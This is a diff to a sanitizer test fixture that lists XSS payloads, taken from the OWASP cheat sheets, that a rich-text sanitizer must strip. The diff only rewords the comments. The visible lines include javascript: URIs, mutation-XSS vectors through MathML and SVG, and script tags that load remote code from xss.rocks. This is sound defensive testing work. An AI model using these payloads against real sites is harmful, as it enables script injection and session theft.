@@ -1,7 +1,7 @@
 /**
- * What attackers put into rich text: scripts, styles, event handlers, `javascript:` in its disguises, SVG, MathML, and
- * HTML that changes its meaning when it is parsed again. After the OWASP XSS Filter Evasion Cheat Sheet, the HTML5
- * Security Cheatsheet and published ways around sanitizers. Both sides must let none of them survive.
+ * What attackers put into rich text: scripts, styles, event handlers, disguised `javascript:`, SVG, MathML, and HTML
+ * that changes its meaning when it is parsed again. From the OWASP XSS Filter Evasion Cheat Sheet, the HTML5 Security
+ * Cheatsheet and published sanitizer bypasses. The browser and the server must remove all of them.
  */
 export const HTML_ATTACKS: readonly string[] = [
   // Scripts
@@ -63,7 +63,7 @@ export const HTML_ATTACKS: readonly string[] = [
   '<button formaction="javascript:alert(1)">x</button>',
   '<base href="javascript:alert(1)//">',
   '<area href="javascript:alert(1)">',
-  // Frames, objects, and what sends the page elsewhere
+  // Frames, objects, and redirects
   '<iframe src="javascript:alert(1)"></iframe>',
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   '<object data="javascript:alert(1)"></object>',
@@ -91,7 +91,7 @@ export const HTML_ATTACKS: readonly string[] = [
   '<math><mtext></p><img src=x onerror=alert(1)></mtext></math>',
   '<math href="javascript:alert(1)">x</math>',
   '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
-  // What a second parsing turns into something else
+  // HTML that a second parsing turns into something else
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
@@ -113,7 +113,7 @@ export const HTML_ATTACKS: readonly string[] = [
   '<custom-element is="x-y" onfocus=alert(1) tabindex=0 autofocus>x</custom-element>',
   '<p contenteditable onbeforeinput=alert(1)>x</p>',
   '<img src=https://evil.example/seen.gif>',
-  // More of the same lists: older elements, odd cuts and quotes, links in every disguise
+  // More from the same lists: older elements, unusual splits and quotes, disguised links
   '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
   '<SCRIPT SRC=//xss.rocks/.j>',
   '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
